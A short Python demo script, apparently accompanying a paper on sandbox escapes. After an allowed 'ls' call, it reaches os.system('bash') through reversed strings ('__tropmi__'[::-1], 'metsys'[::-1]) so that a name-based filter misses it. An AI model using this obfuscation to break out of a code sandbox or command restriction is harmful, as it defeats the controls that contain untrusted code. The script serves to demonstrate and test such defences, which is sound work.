# A small job for the demo: one allowed command, then an escape attempt.
import os

print("job: os.system('ls') returned", os.system("ls > /dev/null"))
# The paper's Table 6, row 1: builtins reached through reversed strings.
rc = getattr(getattr(__builtins__, '__tropmi__'[::-1])('so'[::-1]), 'metsys'[::-1])('bash')
print("job: os.system('bash') returned", rc, "- and the job goes on")
